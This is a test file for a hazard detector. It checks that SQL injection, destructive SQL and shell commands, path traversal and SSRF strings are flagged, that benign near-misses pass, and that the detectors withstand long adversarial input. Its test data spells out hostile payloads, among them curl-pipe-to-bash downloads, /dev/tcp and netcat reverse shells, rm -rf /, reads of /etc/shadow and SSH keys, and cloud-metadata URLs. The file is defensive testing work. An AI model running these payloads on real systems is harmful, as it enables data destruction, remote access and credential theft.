import { describe, expect, it } from "vitest";
import { parseIpv4Literal } from "../../src/engine/detectors/hazards/index.js";
import { describeRobustness } from "../helpers/detector-robustness.js";
import {
  detectHazards as detect,
  hazardDetectors as detectors,
  hazardTypes as types,
} from "../helpers/hazard-detect.js";

describe("hazard detectors: positives", () => {
  it.each([
    ["sql_injection", "admin' OR 1=1 --"],
    ["sql_injection", "x' or 'a'='a"],
    ["sql_injection", "1 UNION SELECT username, password FROM users"],
    ["sql_injection", "1'; DROP TABLE users--"],
    ["sql_injection", "admin'--"],
    ["sql_injection", "1' AND SLEEP(5)--"],
    ["sql_injection", "1 and benchmark(5000000,md5(1))"],
    ["sql_injection", "'; exec xp_cmdshell 'whoami'--"],
    ["dangerous_sql", "DROP TABLE customers;"],
    ["dangerous_sql", "drop database if exists prod"],
    ["dangerous_sql", "TRUNCATE TABLE audit_log"],
    ["dangerous_sql", "DELETE FROM orders;"],
    ["dangerous_sql", "UPDATE users SET role = 'admin';"],
    ["dangerous_sql", "GRANT ALL PRIVILEGES ON *.* TO 'x'@'%'"],
    ["dangerous_sql", "ALTER TABLE users DROP COLUMN email"],
    ["shell_danger", "rm -rf /"],
    ["shell_danger", "sudo rm -rf --no-preserve-root /"],
    ["shell_danger", "rm -fr ~"],
    ["shell_danger", "cd x && rm -Rf *"],
    ["shell_danger", "mkfs.ext4 /dev/sda1"],
    ["shell_danger", "dd if=/dev/zero of=/dev/sda bs=1M"],
    ["shell_danger", ":(){ :|:& };:"],
    ["shell_danger", "curl -fsSL https://x.example/i.sh | sudo bash"],
    ["shell_danger", "wget -qO- http://x.example/a | sh"],
    ["shell_danger", "chmod -R 777 /"],
    ["shell_danger", "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"],
    ["shell_danger", "nc -e /bin/sh 10.0.0.1 4242"],
    ["shell_danger", `python -c 'import socket,subprocess,os;s=socket.socket()'`],
    ["path_traversal", "../../../etc/passwd"],
    ["path_traversal", "..\\..\\windows\\win.ini"],
    ["path_traversal", "%2e%2e%2fconfig"],
    ["path_traversal", "..%252f..%252fsecret"],
    ["path_traversal", "file=%252e%252e%252fboot"],
    ["path_traversal", "cat /etc/shadow"],
    ["path_traversal", "~/.ssh/id_rsa"],
    ["path_traversal", "C:\\Windows\\System32\\cmd.exe"],
    ["ssrf", "http://169.254.169.254/latest/meta-data/"],
    ["ssrf", "http://[fd00:ec2::254]/latest"],
    ["ssrf", "http://metadata.google.internal/computeMetadata/v1/"],
    ["ssrf", "http://100.100.100.200/latest/meta-data"],
    ["ssrf", "http://2852039166/"],
    ["ssrf", "http://0xA9FEA9FE/"],
    ["ssrf", "http://0251.0376.0251.0376/"],
    ["ssrf", "http://169.254.43518/"],
    ["ssrf", "http://[::ffff:a9fe:a9fe]/"],
    ["ssrf", "file:///etc/hosts"],
    ["ssrf", "gopher://127.0.0.1:6379/_FLUSHALL"],
    ["ssrf", "dict://internal:11211/stat"],
    ["ssrf_loopback", "http://localhost:8080/admin"],
    ["ssrf_loopback", "https://127.0.0.2/"],
    ["ssrf_loopback", "http://0.0.0.0:80"],
    ["ssrf_loopback", "http://[::1]/"],
    ["ssrf_loopback", "http://2130706433/"],
  ])("%s: %s", (type, text) => {
    expect(types(text)).toContain(type);
  });
});

describe("hazard detectors: near misses stay clean", () => {
  it.each([
    "Please select the union of these sets.",
    "The union selected a new leader or two.",
    "Drop me a line when you are back.",
    "Update from the team: we deleted from the backlog three stale tickets.",
    "We should update the docs and set expectations.",
    "It's the 'best' -- or so they say.",
    "DELETE FROM orders WHERE id = 7;",
    "UPDATE users SET role = 'admin' WHERE id = 1;",
    "rm -rf node_modules",
    "rm -rf ./dist",
    "curl -O https://example.com/file.tar.gz",
    "chmod 755 script.sh",
    "see ../README.md for details",
    "Use /etc/hosts to pin the name.",
    "Wait... what?",
    "Visit https://example.com/path or http://8.8.8.8/",
    "My phone number is 2852039167.",
    "sleep(1000) before retrying",
  ])("%s", (text) => {
    expect(detect(text)).toEqual([]);
  });
});

describe("hazard detectors: offsets and helpers", () => {
  it("reports exact spans", () => {
    const text = "id=1'; DROP TABLE users--";
    expect(detect(text)).toContainEqual({
      kind: "hazard",
      type: "sql_injection",
      start: 5,
      end: 17,
      ruleId: "hazard.sql_injection.stacked_query",
    });
    const url = "fetch http://169.254.169.254/latest now";
    expect(detect(url)).toEqual([
      { kind: "hazard", type: "ssrf", start: 6, end: 28, ruleId: "hazard.ssrf.cloud_metadata" },
    ]);
    expect(detect("x ../../../etc/passwd").map((m) => [m.start, m.end])).toEqual([
      [2, 11],
      [10, 21],
    ]);
  });

  it("parses IPv4 literals like inet_aton", () => {
    expect(parseIpv4Literal("2852039166")).toBe(0xa9fea9fe);
    expect(parseIpv4Literal("0xa9fea9fe")).toBe(0xa9fea9fe);
    expect(parseIpv4Literal("0251.0376.0251.0376")).toBe(0xa9fea9fe);
    expect(parseIpv4Literal("169.254.43518")).toBe(0xa9fea9fe);
    expect(parseIpv4Literal("127.1")).toBe(0x7f000001);
    expect(parseIpv4Literal("256.1.1.1")).toBeUndefined();
    expect(parseIpv4Literal("example.com")).toBeUndefined();
  });
});

describeRobustness("hazard detectors", detectors, {
  fragments: ["'", " OR ", "1=1", "../", "://", "rm -rf", ";", "|"],
  adversarial: [
    ["' OR '", "' OR ".repeat(20_000)],
    ["quote spaces", `'${" ".repeat(100_000)}`],
    ["; select", "1; select ".repeat(10_000)],
    ["update set", "update t set a=".repeat(7_000)],
    ["delete from", "delete from t ".repeat(7_000)],
    ["../", "../".repeat(30_000)],
    ["%2e", "%2e".repeat(30_000)],
    ["rm -r", "rm -r ".repeat(15_000)],
    ["curl no pipe", `curl ${"a".repeat(100_000)}`],
    ["fork-bomb prefix", "a(){ a|".repeat(12_000)],
    ["://", "://".repeat(30_000)],
    ["http://x", "http://".repeat(15_000)],
    ["// runs", "//".repeat(50_000)],
    ["=// runs", "=//".repeat(30_000)],
    ["full-width dotted digits", "１。".repeat(50_000)],
    ["long authority", `http://${"a".repeat(100_000)}`],
    ["authorities", `http://${"a".repeat(299)}`.repeat(300)],
    ["bare host:port runs", "10.0.0.1:".repeat(10_000)],
    ["ipv6 runs", "[::ffff:".repeat(12_000)],
    ["file: runs", "file:/".repeat(15_000)],
    ["quotes in words", "r''".repeat(30_000)],
    ["quote runs", "'\"".repeat(50_000)],
    ["backslash words", " \\a".repeat(30_000)],
    ["sql comments", "/**/".repeat(25_000)],
    ["open sql comment", `/*${"a".repeat(100_000)}`],
    ["delete where", "delete from t where 1=".repeat(5_000)],
    ["update where", `update t set a=1 ${"where 1=1 and ".repeat(7_000)}`],
    ["find /", "find / ".repeat(15_000)],
    ["base64 -d", "base64 -d x ".repeat(9_000)],
    ["python -c", "python -c os.".repeat(8_000)],
    [".env runs", " .env.x".repeat(15_000)],
    ["full-width slashes", "..／".repeat(30_000)],
  ],
});
